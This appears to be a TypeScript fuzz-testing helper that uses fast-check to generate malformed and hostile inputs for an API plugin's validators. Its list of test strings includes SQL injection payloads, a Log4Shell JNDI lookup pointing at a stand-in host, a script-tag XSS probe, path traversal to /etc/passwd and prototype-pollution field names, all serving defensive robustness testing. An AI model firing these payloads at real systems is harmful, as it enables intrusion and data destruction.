import fc from 'fast-check';

const base64url = (value: unknown) =>
  Buffer.from(JSON.stringify(value)).toString('base64url');

/** Strings that broke, or could break, a validator or a database. */
export const nastyStrings: string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\udc00\ud800',
  '😀',
  "'; DROP TABLE builds; --",
  '" OR 1=1 --',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '%00',
  '%',
  'null',
  'true',
  'org',
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00+01:00',
  '2026-02-30T00:00:00Z',
  '2026-13-01T00:00:00Z',
  '2026-01-01T24:00:00Z',
  '9999-12-31T23:59:60Z',
  '+275760-09-13T00:00:00.000Z',
  '-000001-01-01T00:00:00Z',
  '2026-01-01',
  '1e308',
  '99999999999999999999',
  '0x10',
  '1e3',
  '-1',
  'NaN',
  'Infinity',
  `system:default/${'s'.repeat(300)}`,
  `component:default/${'c'.repeat(300)}`,
  `group:default/${'g'.repeat(300)}`,
  'system:default/nope',
  'component:default/nope',
  'system:default/shop\u0000',
  'system:default/../bank',
  '3f1e4a2b-1c2d-4e5f-8a9b-0c1d2e3f4a5b',
  '00000000-0000-0000-0000-000000000000',
  base64url(['not a time', 'x']),
  base64url([
    '0000-01-01T00:00:00.000Z',
    '3f1e4a2b-1c2d-4e5f-8a9b-0c1d2e3f4a5b',
  ]),
  base64url(['2026-11-01T00:00:00Z', '3f1e4a2b-1c2d-4e5f-8a9b-0c1d2e3f4a5b']),
  base64url({ createdAt: 1 }),
  Buffer.from('system:default/\u0000').toString('base64url'),
];

/** Any UTF-16 code unit, so that NUL, control characters and lone surrogates all come up. */
const codeUnit = fc
  .integer({ min: 0, max: 0xffff })
  .map(code => String.fromCharCode(code));

/**
 * A string of arbitrary code units, sometimes with a NUL or a lone surrogate spliced in, or
 * huge; `maxLength` bounds the huge ones (a URL longer than Node's 16 KB header limit is
 * refused by Node itself with 431 before the plugin sees it).
 */
export const wildStringOf = (maxLength: number): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(...nastyStrings),
    fc.string({ unit: codeUnit, maxLength: 40 }),
    fc
      .tuple(
        fc.string({ maxLength: 20 }),
        fc.constantFrom('\u0000', '\ud800', '\udfff'),
        fc.string({ maxLength: 20 }),
      )
      .map(parts => parts.join('')),
    fc
      .date({
        min: new Date(-8.64e15),
        max: new Date(8.64e15),
        noInvalidDate: true,
      })
      .map(d => d.toISOString()),
    fc.integer({ min: 256, max: maxLength }).map(n => 'x'.repeat(n)),
  );

/** A wild string for a JSON body, up to 300,000 characters. */
export const wildString = wildStringOf(300_000);

/** A wild string for a URL (path segment or query value), up to 5,000 characters. */
export const wildUrlString = wildStringOf(5_000);

/**
 * Deeply nested arrays or objects, built only when the request is serialised (fast-check's own
 * printing of a value recurses, and would overflow the stack on thousands of levels).
 */
export class DeepNesting {
  constructor(readonly depth: number, readonly asObject: boolean) {}

  toJSON(): unknown {
    let value: unknown = 'deep';
    for (let i = 0; i < this.depth; i++) {
      value = this.asObject ? { a: value } : [value];
    }
    return value;
  }

  toString() {
    return `DeepNesting(${this.depth}, ${
      this.asObject ? 'objects' : 'arrays'
    })`;
  }
}

const deepNesting = fc
  .tuple(fc.integer({ min: 50, max: 2000 }), fc.boolean())
  .map(([depth, asObject]) => new DeepNesting(depth, asObject));

/** JSON values of the wrong type or shape for any field. */
export const wildJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: wildString },
  fc.constantFrom(
    null,
    true,
    false,
    0,
    -1,
    -0,
    1.5,
    1e308,
    -1e308,
    Number.MAX_SAFE_INTEGER + 2,
    2 ** 63,
    [],
    {},
  ),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.jsonValue({ maxDepth: 3 }),
  fc.integer({ min: 1000, max: 20_000 }).map(n => new Array(n).fill('a')),
  deepNesting,
);

/** Field names that no request schema declares. */
export const unknownFieldNames = [
  'unknown',
  '__proto__',
  'constructor',
  'id',
  'createdAt',
  'x'.repeat(300),
  'a\u0000b',
];

/** Header values a client could send (visible ASCII only: anything else never leaves the client). */
export const wildHeaderValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    "'; DROP TABLE x; --",
    'x'.repeat(4000),
    '%00',
    '\t',
  ),
  fc.string({
    unit: fc.integer({ min: 0x20, max: 0x7e }).map(c => String.fromCharCode(c)),
    maxLength: 300,
  }),
);

/**
 * Percent-encodes a string for a URL the way a careless client might: UTF-8 for well-formed
 * text, and the bytes of a lone surrogate as CESU-8 (not valid UTF-8) for the server to refuse.
 */
export function encodeUriLoosely(value: string): string {
  let out = '';
  for (const char of value) {
    const code = char.codePointAt(0)!;
    if (code >= 0xd800 && code <= 0xdfff) {
      out += `%${(0xe0 | (code >> 12)).toString(16)}%${(
        0x80 |
        ((code >> 6) & 0x3f)
      ).toString(16)}%${(0x80 | (code & 0x3f)).toString(16)}`.toUpperCase();
    } else {
      out += encodeURIComponent(char);
    }
  }
  return out;
}
